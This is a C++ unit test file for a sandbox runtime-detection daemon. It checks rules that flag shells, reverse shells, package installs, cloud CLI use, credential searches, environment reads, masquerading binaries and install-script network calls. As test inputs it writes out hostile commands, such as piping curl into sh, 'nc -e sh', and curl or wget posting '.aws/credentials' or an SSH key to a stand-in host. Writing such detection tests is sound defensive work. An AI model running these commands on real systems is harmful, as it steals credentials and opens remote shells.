// SPDX-License-Identifier: Apache-2.0
//
// The rules that know programs by name: function.shell_spawned, function.package_install, identity.cloud_cli,
// identity.credential_search, identity.environment_read, supply.masquerade, supply.install_script.
#include "daemon/detect/tool.h"
#include "tests/unit/detect/detector_fixture.h"

namespace fnshield::test {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;
using testing::SizeIs;
using Words = std::vector<std::string>;

// resnet/i-4 (kOther) serves since 5 s; its process 200 forked 201.
class ToolTest : public DetectorTest {
protected:
    explicit ToolTest(std::unique_ptr<Detector> detector) : DetectorTest(std::move(detector))
    {
        start_two();
        feed(fork_event(kOther, 6 * kSecond, process(200), process(201)));
    }

    std::vector<Detection> run(const std::string& path, Words argv = {}, std::uint32_t flags = 0)
    {
        return feed(exec_event(kOther, 7 * kSecond, process(201, 200), path, flags, std::move(argv)));
    }

    // Whatever a rule finds is quiet before ready, from outside, and where exec.warm lists the program.
    void expect_quiet_where_it_belongs(const std::string& path, const Words& argv)
    {
        EXPECT_THAT(feed(exec_event(kBox, 3 * kSecond, process(101, 100), path, 0, argv)), IsEmpty()) << "before ready";
        EXPECT_THAT(run(path, argv, FNS_EXEC_FROM_OUTSIDE), IsEmpty()) << "a probe";
        feed(fork_event(kOther, 6 * kSecond, process(200), process(202)));
        Policy policy;
        policy.exec.warm = {{path}};
        use_policy(policy);
        EXPECT_THAT(feed(exec_event(kOther, 7 * kSecond, process(202, 200), path, 0, argv)), IsEmpty()) << "listed";
    }
};

TEST(Tool, IsKnownByFileAppletScriptAndModule)
{
    const auto name = [](const std::string& path, Words argv, std::uint32_t flags = 0) {
        const ExecBody exec = exec_body(path, flags, std::move(argv));
        return std::string(detect::tool_of(exec).name);
    };
    EXPECT_EQ(name("/usr/bin/grep", {"grep", "-r", "x"}), "grep");
    EXPECT_EQ(name("/bin/busybox", {"wget", "http://x"}), "wget");
    EXPECT_EQ(name("/bin/busybox", {"busybox", "nc", "-l"}), "nc");
    EXPECT_EQ(name("/bin/busybox", {"busybox"}), "busybox");
    EXPECT_EQ(name("/usr/bin/python3.11", {"python3", "-m", "pip", "install"}), "pip");
    EXPECT_EQ(name("/usr/bin/python3.11", {"/usr/bin/python3", "-s", "/usr/bin/aws", "s3", "ls"}, FNS_EXEC_SCRIPT),
              "aws");
    EXPECT_EQ(name("/usr/bin/python3.11", {"python3", "-c", "import os"}), "python");
    EXPECT_EQ(name("/usr/bin/node", {"node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "ci"}), "npm-cli.js");
    EXPECT_EQ(name("/usr/bin/dash", {"sh", "-c", "id"}), "dash");
    EXPECT_EQ(name("/usr/bin/true", {}), "true");
}

TEST(Tool, IsKnownInTheCoreutilsOfSmallImages)
{
    const auto tool = [](Words argv) {
        static ExecBody exec;
        exec = exec_body("/usr/bin/coreutils", 0, std::move(argv));
        return detect::tool_of(exec);
    };
    EXPECT_EQ(tool({"/usr/bin/printenv", "A"}).name, "printenv");
    EXPECT_EQ(tool({"coreutils", "cat", "/x"}).name, "cat");
    EXPECT_EQ(tool({"coreutils", "--coreutils-prog=cat", "/x"}).arguments.front(), "/x");
    const auto script = tool({"/usr/bin/coreutils", "--coreutils-prog-shebang=id", "/usr/bin/id", "-u"});
    EXPECT_EQ(script.name, "id");
    EXPECT_EQ(script.arguments.front(), "-u");
}

TEST(Tool, IsKnownBehindTheDynamicLoaderAndOptions)
{
    const auto name = [](const std::string& path, Words argv) {
        const ExecBody exec = exec_body(path, 0, std::move(argv));
        return std::string(detect::tool_of(exec).name);
    };
    const std::string loader = "/usr/lib64/ld-linux-x86-64.so.2";
    EXPECT_EQ(name(loader, {"ld", "/usr/bin/id"}), "id");
    EXPECT_EQ(name(loader, {"ld", "--library-path", "/lib", "--argv0=x", "/bin/busybox", "wget"}), "wget")
        << "busybox is called busybox here";
    EXPECT_EQ(name(loader, {"ld", "--argv0", "x", "/usr/bin/python3", "-m", "pip"}), "pip");
    EXPECT_EQ(name(loader, {"ld", "--list"}), "ld-linux-x86-64.so.2");
    EXPECT_EQ(name(loader, {}), "ld-linux-x86-64.so.2");
    EXPECT_EQ(name("/usr/bin/python3.11", {"python3", "-W", "ignore", "/usr/bin/aws"}), "aws");
    EXPECT_EQ(name("/usr/bin/python3.11", {"python3", "-Im", "pip"}), "pip");
    EXPECT_EQ(name("/usr/bin/python3.11", {"python3", "-Ic", "import x"}), "python");
    EXPECT_EQ(name("/usr/bin/python3.11", {"python3", "-I", "/app/x.py"}), "x.py") << "takes no value";
    EXPECT_EQ(name("/usr/bin/node", {"node", "-r", "hook", "/usr/bin/npm", "ci"}), "npm");
    EXPECT_EQ(name("/usr/bin/php8.2", {"php", "-r", "system('id');"}), "php");
    EXPECT_EQ(name("/usr/bin/python3.11", {"python3", "-W"}), "python");
}

class ShellSpawned : public ToolTest {
protected:
    ShellSpawned() : ToolTest(detect::make_function_shell_spawned()) {}
};

TEST_F(ShellSpawned, AShell)
{
    const auto found = run("/usr/bin/dash", {"sh", "-c", "curl http://x | sh"});
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].finding.summary, "resnet/i-4 ran a shell: /usr/bin/dash while warm, from /usr/bin/node");
    EXPECT_EQ(found[0].rule->severity, Severity::high);
}

TEST_F(ShellSpawned, WhateverLeadsToIt)
{
    EXPECT_THAT(run("/bin/busybox", {"sh"}), SizeIs(1));
    EXPECT_THAT(run("/bin/busybox", {"busybox", "ash"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/bash", {"-bash"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/bash", {"python3"}), SizeIs(1)) << "argv[0] is the caller's to choose";
    EXPECT_THAT(run("/usr/bin/dash", {"/bin/sh", "/tmp/x.sh"}, FNS_EXEC_SCRIPT), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/id"), SizeIs(1));
    EXPECT_THAT(run("/bin/busybox", {"busybox", "nc", "-e", "sh"}), SizeIs(1));
}

TEST_F(ShellSpawned, QuietForWhatPythonCalls)
{
    EXPECT_THAT(run("/sbin/ldconfig", {"/sbin/ldconfig", "-p"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/gcc", {"gcc", "-Wl,-t"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/uname", {"uname", "-p"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/dash", {"sh", "-c", "uname -p 2> /dev/null"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/dash", {"sh", "-c", "uname -p 2> /dev/null; id"}), SizeIs(1));
}

TEST_F(ShellSpawned, QuietWhereItBelongs)
{
    expect_quiet_where_it_belongs("/usr/bin/dash", {"sh", "handler.sh"});
}

class ReverseShell : public ToolTest {
protected:
    ReverseShell() : ToolTest(detect::make_function_reverse_shell()) {}

    std::vector<Detection> run_on(const std::string& path, std::uint16_t local_port, std::uint32_t flags = 0)
    {
        Event event = exec_event(kOther, 7 * kSecond, process(201, 200), path, FNS_EXEC_STDIO_SOCKET | flags);
        auto& exec = std::get<ExecBody>(event.body);
        exec.stdio_remote = endpoint("203.0.113.9", 4444);
        exec.stdio_local = endpoint("10.62.0.2", local_port);
        return feed(event);
    }
};

TEST_F(ReverseShell, AShellOrInterpreterOnAConnection)
{
    const auto found = run_on("/usr/bin/bash", 50000);
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].finding.summary,
              "resnet/i-4 ran /usr/bin/bash with the connection to 203.0.113.9:4444 as its input and output, from "
              "/usr/bin/node");
    EXPECT_EQ(found[0].finding.target.port, 4444);
    EXPECT_THAT(run_on("/usr/bin/python3.11", 50000), SizeIs(1));
    EXPECT_THAT(run_on("/bin/busybox", 50000), SizeIs(1));
}

TEST_F(ReverseShell, QuietForPipesOtherProgramsProbesAndAcceptedConnections)
{
    EXPECT_THAT(run("/usr/bin/bash"), IsEmpty());
    EXPECT_THAT(run_on("/usr/bin/date", 50000), IsEmpty());
    EXPECT_THAT(run_on("/usr/bin/bash", 50000, FNS_EXEC_FROM_OUTSIDE), IsEmpty());
    EXPECT_THAT(run_on("/usr/bin/bash", 8080), IsEmpty()) << "inetd: the port on which the sandbox listens";
}

class PackageInstall : public ToolTest {
protected:
    PackageInstall() : ToolTest(detect::make_function_package_install()) {}
};

TEST_F(PackageInstall, ByEveryName)
{
    EXPECT_THAT(run("/usr/bin/python3.11", {"/usr/bin/python3", "/usr/bin/pip", "install", "evil"}, FNS_EXEC_SCRIPT),
                SizeIs(1));
    EXPECT_THAT(run("/usr/bin/python3.11", {"python3", "-m", "pip", "install", "evil"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/node", {"node", "/usr/bin/npm", "--silent", "i", "evil"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/apt-get", {"apt-get", "-y", "install", "nmap"}), SizeIs(1));
    EXPECT_THAT(run("/bin/busybox", {"dpkg", "-i", "x.deb"}), SizeIs(1));
    const auto found = run("/sbin/apk", {"apk", "add", "curl"});
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].finding.target.name, "apk");
}

TEST_F(PackageInstall, QuietForWordsThatInstallNothing)
{
    EXPECT_THAT(run("/usr/bin/python3.11", {"python3", "-m", "pip", "list"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/node", {"node", "/usr/bin/npm", "run", "start"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/python3.11", {"python3", "install.py"}), IsEmpty());
}

TEST_F(PackageInstall, QuietWhereItBelongs)
{
    expect_quiet_where_it_belongs("/usr/bin/apt-get", {"apt-get", "install", "x"});
}

class CloudCli : public ToolTest {
protected:
    CloudCli() : ToolTest(detect::make_identity_cloud_cli()) {}
};

TEST_F(CloudCli, ByFileScriptAndModule)
{
    EXPECT_THAT(run("/usr/local/bin/kubectl", {"kubectl", "get", "secrets"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/python3.11", {"/usr/bin/python3", "/usr/bin/aws", "sts"}, FNS_EXEC_SCRIPT), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/python3.11", {"python3", "-m", "awscli", "sts"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/awk", {"awk", "1"}), IsEmpty());
}

TEST_F(CloudCli, OneToolIsOneFinding)
{
    const auto script = run("/usr/bin/dash", {"/bin/sh", "/usr/bin/gcloud", "auth"}, FNS_EXEC_SCRIPT);
    const auto program = run("/usr/bin/python3.11", {"python3", "-S", "/usr/lib/google-cloud-sdk/lib/gcloud.py"});
    ASSERT_THAT(script, SizeIs(1));
    ASSERT_THAT(program, SizeIs(1));
    EXPECT_EQ(script[0].finding.key, program[0].finding.key);
}

TEST_F(CloudCli, QuietWhereItBelongs)
{
    expect_quiet_where_it_belongs("/usr/local/bin/kubectl", {"kubectl", "version"});
}

class CredentialSearch : public ToolTest {
protected:
    CredentialSearch() : ToolTest(detect::make_identity_credential_search()) {}
};

TEST_F(CredentialSearch, SearchesAndReads)
{
    EXPECT_THAT(run("/usr/bin/grep", {"grep", "-ri", "PASSWORD", "/"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/find", {"find", "/", "-name", "id_rsa"}), SizeIs(1));
    EXPECT_THAT(run("/bin/busybox", {"find", "/", "-name", "*.pem"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/cat", {"cat", "/root/.aws/credentials"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/tar", {"tar", "c", "/root/.ssh"}), SizeIs(1));
}

TEST_F(CredentialSearch, ByEveryToolThatReads)
{
    EXPECT_THAT(run("/usr/bin/coreutils", {"/usr/bin/cat", "/root/.aws/credentials"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/ls", {"ls", "-la", "/home/app/.ssh"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/ln", {"ln", "-s", "/root/.netrc", "/app/static/x"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/curl", {"curl", "-d", "@/root/.aws/credentials", "https://x.example"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/curl", {"curl", "-T", "/root/.kube/config", "https://x.example"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/curl", {"curl", "file:///etc/shadow"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/wget", {"wget", "--post-file=/root/.ssh/id_rsa", "https://x.example"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/perl", {"perl", "-e", "print <>, '/root/.git-credentials'"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/grep", {"grep", "-r", "access_token", "/app"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/find", {"find", "/", "-name", "server.KEY"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/find", {"find", "/app", "-name", ".env.production"}), SizeIs(1));
}

TEST_F(CredentialSearch, QuietForWordsThatOnlyBeginAlike)
{
    EXPECT_THAT(run("/usr/bin/find", {"find", "/models", "-name", "tokenizer.json"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/grep", {"grep", "-c", "bos", "/models/special_tokens_map.json"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/grep", {"grep", "region", "/app/config.aws.json"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/find", {"find", "/app", "-name", "*.keys", "-o", "-name", "x.environment"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/cat", {"cat", "/app/page.kubernetes"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/curl", {"curl", "--netrc-file", "/root/.netrc", "https://x.example"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/python3.11", {"python3", "/app/.ssh/tool.py", "/root/.ssh"}), IsEmpty())
        << "a program of the image";
}

TEST_F(CredentialSearch, QuietForOtherWords)
{
    EXPECT_THAT(run("/usr/bin/grep", {"grep", "-c", "error", "/tmp/log"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/find", {"find", "/tmp", "-mtime", "+1"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/cat", {"cat", "/app/tokens.txt"}), IsEmpty())
        << "cat is no search, and this no known place";
    EXPECT_THAT(run("/usr/bin/convert", {"convert", "secret.png"}), IsEmpty());
}

TEST_F(CredentialSearch, QuietWhereItBelongs)
{
    expect_quiet_where_it_belongs("/usr/bin/grep", {"grep", "-r", "token", "/src"});
}

class EnvironmentRead : public ToolTest {
protected:
    EnvironmentRead() : ToolTest(detect::make_identity_environment_read()) {}
};

TEST_F(EnvironmentRead, ProgramsThatPrintIt)
{
    EXPECT_THAT(run("/usr/bin/printenv", {"printenv", "AWS_SECRET_ACCESS_KEY"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/env", {"env"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/env", {"env", "-0", "A=1", "-u", "B"}), SizeIs(1));
    EXPECT_THAT(run("/bin/busybox", {"env"}), SizeIs(1));
}

TEST_F(EnvironmentRead, BySmallImagesPsAndReaders)
{
    EXPECT_THAT(run("/usr/bin/coreutils", {"/usr/bin/env"}), SizeIs(1));
    EXPECT_THAT(run("/lib/ld-musl-x86_64.so.1", {"ld", "/usr/bin/printenv"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/ps", {"ps", "auxeww"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/cat", {"cat", "/proc/self/environ"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/tr", {"tr", "x", "y", "/proc/thread-self/environ"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/curl", {"curl", "-d@/proc/self/task/1/environ", "https://x.example"}), SizeIs(1));
    EXPECT_THAT(run("/usr/bin/env", {"env", "-uSi"}), SizeIs(1)) << "Si is a name here";
}

TEST_F(EnvironmentRead, QuietForOtherWords)
{
    EXPECT_THAT(run("/usr/bin/ps", {"ps", "aux"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/ps", {"ps", "-eo", "pid"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/ps", {"ps"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/cat", {"cat", "/proc/self/status", "/app/environ"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/dash", {"sh", "-c", "cat /proc/self/environ"}), IsEmpty()) << "its cat tells";
    EXPECT_THAT(run("/usr/bin/env", {"env", "-i"}), IsEmpty()) << "nothing to print";
    EXPECT_THAT(run("/usr/bin/env", {"env", "-vS", "A=1 node"}), IsEmpty());
}

TEST_F(EnvironmentRead, QuietForALauncher)
{
    EXPECT_THAT(run("/usr/bin/env", {"env", "python3", "app.py"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/env", {"env", "-u", "HOME", "A=1", "node"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/env", {"env", "-S", "node --x"}), IsEmpty());
}

TEST_F(EnvironmentRead, AnotherProcesssEnvironInTheSameSandbox)
{
    const Event event = memory_event(kOther, 7 * kSecond, process(201, 200), kOther, process(200), FNS_ACCESS_PEEK,
                                     FNS_VIA_PROC_FILE, "environ");
    const auto found = feed(event);
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_THAT(found[0].finding.summary, HasSubstr("/proc/200/environ"));
    expect_quiet_for_others(event);
    EXPECT_THAT(feed(memory_event(kOther, 7 * kSecond, process(200), kOther, process(200), FNS_ACCESS_PEEK,
                                  FNS_VIA_PROC_FILE, "environ")),
                IsEmpty())
        << "its own";
    EXPECT_THAT(feed(memory_event(kOther, 7 * kSecond, process(201, 200), kBox, process(100), FNS_ACCESS_PEEK,
                                  FNS_VIA_PROC_FILE, "environ")),
                IsEmpty())
        << "another sandbox's is isolation.proc_peek's";
    EXPECT_THAT(feed(memory_event(kOther, 7 * kSecond, process(201, 200), kOther, process(200), FNS_ACCESS_PEEK,
                                  FNS_VIA_PROC_FILE, "maps")),
                IsEmpty());
}

TEST_F(EnvironmentRead, QuietWhereItBelongs)
{
    expect_quiet_where_it_belongs("/usr/bin/printenv", {"printenv"});
}

class Masquerade : public ToolTest {
protected:
    Masquerade() : ToolTest(detect::make_supply_masquerade()) {}
};

TEST_F(Masquerade, AnotherFileUnderARuntimesName)
{
    const auto found = run("/opt/.x/miner", {"python3", "app.py"});
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].finding.summary, "resnet/i-4 ran /opt/.x/miner as python, from /usr/bin/node");
    EXPECT_THAT(run("/usr/bin/perl", {"/usr/bin/node", "x"}), SizeIs(1));
}

TEST_F(Masquerade, AThreadOfTheKernels)
{
    const auto found = run("/opt/.x/miner", {"[kworker/0:1]"});
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].finding.summary, "resnet/i-4 ran /opt/.x/miner as a kernel thread, from /usr/bin/node");
    EXPECT_THAT(run("/bin/busybox", {"[ksoftirqd/0]"}), SizeIs(1)) << "under that name a busybox is nothing";
    EXPECT_THAT(run("/usr/bin/[", {"[", "-f", "/x", "]"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/test", {"[]"}), IsEmpty());
}

TEST_F(Masquerade, ARuntimeWhereNoImageHasOne)
{
    EXPECT_THAT(run("/tmp/python3.11", {"python3"}), SizeIs(1));
    EXPECT_THAT(run("/usr/local/bin/node", {"node"}, FNS_EXEC_UPPER_LAYER), SizeIs(1));
}

TEST_F(Masquerade, QuietForWhatIsOne)
{
    EXPECT_THAT(run("/usr/bin/python3.11", {"/venv/bin/python"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/nodejs", {"node"}), IsEmpty());
    EXPECT_THAT(run("/opt/pypy/bin/pypy3", {"python"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/bash", {"/usr/bin/python", "/opt/pyenv/shims/python"}, FNS_EXEC_SCRIPT), IsEmpty());
    EXPECT_THAT(run("/bin/busybox", {"python3"}), IsEmpty());
    EXPECT_THAT(run("/app/server", {"server"}), IsEmpty());
    EXPECT_THAT(run("/usr/bin/javac", {"javac"}), IsEmpty());
    EXPECT_THAT(run("/tmp/python3", {"python3"}, FNS_EXEC_FIRST), IsEmpty());
    EXPECT_THAT(run("/memfd:python3", {"python3"}, FNS_EXEC_MEMFD), IsEmpty()) << "function.fileless_exec's";
}

class InstallScript : public ToolTest {
protected:
    InstallScript() : ToolTest(detect::make_supply_install_script()) {}

    // npm (201) starts a script's shell (203), which runs node (204).
    void start_npm()
    {
        run("/usr/bin/node", {"node", "/usr/bin/npm", "install"});
        feed(fork_event(kOther, 8 * kSecond, process(201, 200), process(203)));
        feed(exec_event(kOther, 8 * kSecond, process(203, 201), "/usr/bin/dash", 0, {"sh", "-c", "node install.js"}));
        feed(fork_event(kOther, 8 * kSecond, process(203, 201), process(204)));
        feed(exec_event(kOther, 8 * kSecond, process(204, 203), "/usr/bin/node", 0, {"node", "install.js"}));
    }

    std::vector<Detection> connect(std::uint32_t tgid, const std::string& address)
    {
        return feed(connect_event(kOther, 9 * kSecond, process(tgid, 200), endpoint(address, 443)));
    }
};

TEST_F(InstallScript, WhatAManagerStarted)
{
    start_npm();
    const auto found = connect(204, "203.0.113.9");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].finding.summary, "resnet/i-4 talked to 203.0.113.9:443 from npm (/usr/bin/node)");
    EXPECT_THAT(connect(201, "203.0.113.9"), SizeIs(1)) << "the manager itself";
}

TEST_F(InstallScript, ACompilerByTheNameOfItsFile)
{
    for (const char* file : {"/usr/bin/x86_64-linux-gnu-gcc-12", "/usr/bin/g++-12", "/usr/lib/llvm-14/bin/clang"}) {
        run(file, {file, "-c", "x.c"});
        EXPECT_THAT(connect(201, "203.0.113.9"), SizeIs(1)) << file;
    }
    run("/usr/bin/xgcc", {"xgcc"});
    EXPECT_THAT(connect(201, "203.0.113.9"), IsEmpty());
}

TEST_F(InstallScript, QuietForOthersAndDeclaredOnes)
{
    start_npm();
    EXPECT_THAT(connect(200, "203.0.113.9"), IsEmpty()) << "the server";
    EXPECT_THAT(connect(204, "127.0.0.1"), IsEmpty());
    Policy policy;
    policy.egress.warm = {EgressRule{.cidr = cidr("203.0.113.0", 24)}};
    use_policy(policy);
    EXPECT_THAT(connect(204, "203.0.113.9"), IsEmpty()) << "the registry is listed";
    policy = {};
    policy.exec.warm = {{"/usr/bin/node"}};
    use_policy(policy);
    EXPECT_THAT(connect(204, "203.0.113.9"), IsEmpty()) << "the builder is listed";
}

}  // namespace
}  // namespace fnshield::test
